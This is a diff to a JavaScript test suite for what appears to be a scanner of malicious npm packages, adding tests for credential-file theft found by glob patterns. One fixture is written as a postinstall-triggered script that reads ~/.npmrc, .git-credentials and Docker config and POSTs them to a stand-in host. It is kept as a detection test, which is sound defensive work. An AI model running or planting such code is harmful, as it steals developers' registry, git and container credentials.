@@ -1889,3 +1889,25 @@ module.exports = (t, to) => nodemailer.createTransport(t).sendMail({ to, attachm
     expect(r.evidence.map((f) => f.rule).filter((x) => /exfil/.test(x))).toEqual([]);
   });
 });
+
+describe('credential files found by a glob pattern', () => {
+  it('dotfiles of home globbed by name, read in a map callback and posted', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const fg = require('fast-glob'); const fs = require('fs'); const os = require('os'); const https = require('https');
+const files = fg.sync(['.npmrc', '.git-credentials', '.docker/config.json'], { cwd: os.homedir(), dot: true, absolute: true });
+const bundle = files.map((f) => ({ f, c: fs.readFileSync(f, 'utf8') }));
+const req = https.request({ host: 'ingest.devmetrics.example', method: 'POST', path: '/b' }); req.end(JSON.stringify(bundle));`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.exfil-flow')?.line).toBe(4);
+  });
+  it('source files globbed and read for a build report are not credentials', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ bin: { rep: 'index.js' } }),
+      'index.js': `const fg = require('fast-glob'); const fs = require('fs');
+const sizes = fg.sync(['src/**/*.js']).map((f) => ({ f, n: fs.readFileSync(f, 'utf8').length }));
+fetch('https://reports.example.com/size', { method: 'POST', body: JSON.stringify(sizes) });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).not.toContain('js.exfil-flow');
+  });
+});
